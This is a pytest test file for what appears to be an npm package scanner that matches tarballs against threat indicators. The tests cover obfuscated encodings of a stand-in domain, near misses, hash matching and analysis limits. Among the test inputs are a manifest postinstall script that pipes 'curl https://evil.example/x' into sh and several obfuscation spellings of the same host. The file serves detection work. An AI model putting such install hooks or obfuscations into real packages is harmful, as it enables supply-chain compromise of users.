from __future__ import annotations

from base64 import b64encode
from hashlib import sha256

import pytest

from npmguard.config import Limits
from npmguard.detect.indicators import MOST, RULE, IndicatorMatcher
from npmguard.errors import LimitExceeded
from npmguard.integrity.sri import compute_hashes
from npmguard.intel.indicators import make_indicator
from npmguard.model import Confidence, Finding, Indicator, IndicatorKind, Severity
from npmguard.package.tarball import read_archive
from tests.fixture_addresses import burn_address
from tests.fixture_packages import cases, load_case, pack

LIMITS = Limits()
ETHER = burn_address("eth", 0x31)
BITCOIN = burn_address("btc-legacy", 0x31)
DOMAIN = make_indicator(IndicatorKind.DOMAIN, "evil.example", "campaign", "2025-09-08")
URL = make_indicator(IndicatorKind.URL, "https://files.example/drop/a", "campaign")
MATCHER = IndicatorMatcher(
    [
        DOMAIN,
        URL,
        make_indicator(IndicatorKind.ADDRESS, ETHER, "campaign"),
        make_indicator(IndicatorKind.ADDRESS, BITCOIN, "campaign"),
        make_indicator(IndicatorKind.EMAIL, "thief@mail.example", "campaign"),
        make_indicator(IndicatorKind.IP, "192.0.2.77", "campaign"),
    ]
)
B64 = b64encode(b"https://evil.example/x").decode()
HEX = "".join(rf"\x{byte:02x}" for byte in b"evil.example")
CODES = ",".join(str(byte) for byte in b"evil.example")


def matched(
    files: dict[str, str | bytes], matcher: IndicatorMatcher = MATCHER, limits: Limits = LIMITS
) -> tuple[Finding, ...]:
    content = {path: text.encode() if isinstance(text, str) else text for path, text in files.items()}
    content.setdefault("package.json", b'{"name": "x", "version": "1.0.0"}')
    tarball = pack(content)
    archive = read_archive(tarball, limits, lambda path, _size: not path.endswith(".bin"), hashes=True)
    return matcher.match(archive, limits, compute_hashes(tarball, ("sha512", "sha256", "sha1")))


@pytest.mark.parametrize(
    "code",
    [
        "go('evil.example');",
        'go("https://evil.example/x");',
        'go("http://EVIL.Example:8080");',
        "go('see evil.example.');",
        "go('curl evil.example | cat');",
        r"go('\nevil.example');",
        "go('next=https%3A%2F%2Fevil.example');",
        r'go("https:\/\/evil.example\/x");',
        "go('ev' + 'il.exa' + 'mple');",
        "const a = 'evil.'; go(a + 'example');",
        "go(['evil', 'example'].join('.'));",
        f"go('{HEX}');",
        r"go('\u0065vil.example');",
        f"go(atob('{B64}'));",
        f"go(Buffer.from('{B64}', 'base64').toString());",
        f"go(String.fromCharCode({CODES}));",
        "go('elpmaxe.live'.split('').reverse().join(''));",
        "// from https://evil.example/x",
        "go('https://files.example/drop/a');",
        "go('https://files.example/drop/a?b=c');",
        "go('https://files.example/drop/a/b');",
        r'go("https:\/\/files.example\/drop\/a");',
        "go('HTTPS://FILES.example/drop/a');",
        f"go('{ETHER}');",
        f"go('{ETHER.lower()}');",
        f"go('{BITCOIN}');",
        rf"go('\n{BITCOIN}\n');",
        "go('http://192.0.2.77/');",
    ],
)
def test_every_spelling_is_found_at_its_line(code: str) -> None:
    (finding,) = matched({"index.js": f"'use strict';\n{code}\n"})
    assert (finding.rule, finding.file, finding.line) == (RULE, "index.js", 2)
    assert finding.severity is Severity.CRITICAL
    assert finding.confidence is Confidence.HIGH
    assert finding.evidence[0].excerpt
    assert "campaign" in finding.evidence[0].message


@pytest.mark.parametrize(
    "code",
    [
        "go('https://a.evil.example/x');",
        "go(`${user}.evil.example`);",
        "go('a.b.ev' + 'il.example');",
        "go('mailto:Thief@mail.example');",
        "go('192.0.2.77');",
    ],
)
def test_what_may_be_something_else_asks_for_a_look(code: str) -> None:
    (finding,) = matched({"index.js": code})
    assert (finding.severity, finding.confidence) == (Severity.CRITICAL, Confidence.MEDIUM)


@pytest.mark.parametrize(
    "code",
    [
        "go('notevil.example');",
        "go('not-evil.example');",
        "go('evil.example.org');",
        "go('evil.examples');",
        "go('evilXexample');",
        "evil.example = 1; go(evil.example());",
        "go(config.evil.example);",
        "//evil.example = 1;",
        "go('x'.evil.example, 4/evil.example);",
        "go('not' + 'evil.' + 'example');",
        "go('https://files.example/drop/abc');",
        "go('https://files.example/drop/a.js');",
        "go('https://files.example/drop/A');",
        "go('https://files.example/');",
        "go('https://files.example.org/drop/a');",
        f"go('{ETHER}00');",
        f"go('x{BITCOIN}');",
        f"go('{BITCOIN.swapcase()}');",
        "go('athief@mail.example', 'thief@mail.example.org');",
        "go('192.0.2.7', '192.0.2.770', '1.192.0.2.77', 'v192.0.2.77');",
    ],
)
def test_near_misses_are_not_found(code: str) -> None:
    assert matched({"index.js": code}) == ()


def test_what_is_hidden_is_told_decoded() -> None:
    (finding,) = matched({"index.js": f"go(atob('{B64}'));"})
    assert finding.evidence[0].decoded == "https://evil.example/x"
    assert B64 in (finding.evidence[0].excerpt or "")


def test_a_near_miss_does_not_hide_what_follows() -> None:
    many = "'notevil.example',\n" * 20_000
    (finding,) = matched({"index.js": f"go([{many}'evil.example']);"})
    assert finding.line == 20_001


def test_a_property_in_a_file_that_cannot_be_parsed_asks_for_a_look() -> None:
    (finding,) = matched({"index.js": "go(( = ; evil.example }"})
    assert finding.confidence is Confidence.MEDIUM


@pytest.mark.parametrize("host", ["evil.example", r"\u0065vil.example"])
def test_scripts_of_the_manifest_are_read(host: str) -> None:
    scripts = f'"scripts": {{"postinstall": "curl https://{host}/x | sh"}}'
    manifest = f'{{"name": "x", "version": "1.0.0",\n{scripts}}}'
    (finding,) = matched({"package.json": manifest})
    assert (finding.file, finding.line, finding.confidence) == ("package.json", 2, Confidence.HIGH)


def test_files_that_are_no_source_are_read() -> None:
    assert [it.file for it in matched({"run": "curl evil.example", "a.md": "on evil.example,"})] == [
        "a.md",
        "run",
    ]


def test_a_property_in_a_declaration_is_no_host() -> None:
    assert matched({"index.d.ts": "declare namespace evil.example { const a: evil.example; }"}) == ()


def test_evidence_says_who_knows_it_and_since_when() -> None:
    (finding,) = matched({"index.js": "go('evil.example')"})
    assert finding.evidence[0].message == "domain named by campaign, 2025-09-08"


def test_hashes_of_files_and_of_the_tarball_are_found() -> None:
    payload = b"inert bytes"
    file = make_indicator(IndicatorKind.SHA256, sha256(payload).hexdigest())
    (finding,) = matched({"a.bin": payload}, IndicatorMatcher([file]))
    assert (finding.file, finding.confidence) == ("a.bin", Confidence.HIGH)
    tarball = pack({"package.json": b"{}"})
    matcher = IndicatorMatcher([make_indicator(IndicatorKind.SHA256, sha256(tarball).hexdigest())])
    archive = read_archive(tarball, LIMITS, lambda _path, _size: True, hashes=False)
    (finding,) = matcher.match(archive, LIMITS, compute_hashes(tarball, ("sha512", "sha256")))
    assert finding.file is None
    assert finding.message.startswith("The tarball is")


def test_an_archive_without_hashes_is_refused_where_they_are_needed() -> None:
    matcher = IndicatorMatcher([make_indicator(IndicatorKind.SHA256, "0" * 64)])
    assert matcher.needs_hashes
    assert not MATCHER.needs_hashes
    archive = read_archive(pack({"a.bin": b"x"}), LIMITS, lambda _path, _size: False, hashes=False)
    with pytest.raises(ValueError, match=r"a\.bin"):
        matcher.match(archive, LIMITS, ())


def test_package_urls_name_packages() -> None:
    urls = ("pkg:npm/%40scope/name@1.2.3", "pkg:npm/bad", "pkg:pypi/other@1.0")
    matcher = IndicatorMatcher(make_indicator(IndicatorKind.PURL, url, "feed") for url in urls)
    assert matcher.packages == {("@scope/name", "1.2.3"), ("bad", None)}
    named = matcher.match_package("@scope/name", "1.2.3")
    assert named is not None
    assert named.severity is Severity.CRITICAL
    assert matcher.match_package("bad", "9.9.9") is not None
    assert matcher.match_package("@scope/name", "1.2.4") is None
    assert matcher.match_package("other", "1.0") is None


def test_the_digest_depends_on_the_values_and_not_on_their_order() -> None:
    assert IndicatorMatcher([DOMAIN, URL, DOMAIN]).digest == IndicatorMatcher([URL, DOMAIN]).digest
    later = make_indicator(IndicatorKind.DOMAIN, "evil.example", "campaign", "2025-09-09")
    assert IndicatorMatcher([later, URL]).digest != IndicatorMatcher([URL, DOMAIN]).digest


def test_no_more_findings_than_a_person_reads() -> None:
    files: dict[str, str | bytes] = {f"{index:02}.js": "go('a.evil.example')" for index in range(30)}
    files["99.js"] = "go('evil.example')"
    findings = matched(files)
    assert len(findings) == MOST + 1
    assert [it.file for it in findings[:2]] == ["00.js", "01.js"]
    assert findings[-1].message.startswith("11 more")
    assert findings[-1].confidence is Confidence.HIGH  # what is left out still counts
    assert findings == matched(files)


def test_a_package_that_takes_too_long_is_not_called_clean() -> None:
    with pytest.raises(LimitExceeded, match="analysis-seconds"):
        matched({"index.js": "go('evil.example')"}, limits=Limits(analysis_seconds=0.0))


def test_local_addresses_of_careless_feeds_are_left_alone() -> None:
    matcher = IndicatorMatcher([make_indicator(IndicatorKind.IP, value) for value in ("127.0.0.1", "::")])
    assert matched({"index.js": "listen('http://127.0.0.1/', 'http://[::]/')"}, matcher) == ()


def test_thousands_of_indicators_find_nothing_in_honest_packages() -> None:
    matcher = IndicatorMatcher(thousands(5_000))
    for case in cases(benign=True):
        for side in case.sides:
            tarball = load_case(case, side)
            archive = read_archive(tarball, LIMITS, lambda _path, _size: True, hashes=True)
            assert matcher.match(archive, LIMITS, compute_hashes(tarball, ("sha256",))) == (), case.name


def thousands(count: int) -> list[Indicator]:
    made = []
    for index in range(count // 5):
        token = sha256(str(index).encode()).hexdigest()
        made += [
            make_indicator(IndicatorKind.DOMAIN, f"{token[:12]}.example"),
            make_indicator(IndicatorKind.URL, f"https://{token[12:20]}.example/{token[:8]}"),
            make_indicator(IndicatorKind.ADDRESS, f"0x{token[:40]}"),
            make_indicator(IndicatorKind.SHA256, token),
            make_indicator(IndicatorKind.PURL, f"pkg:npm/{token[:10]}@1.0.0"),
        ]
    return made
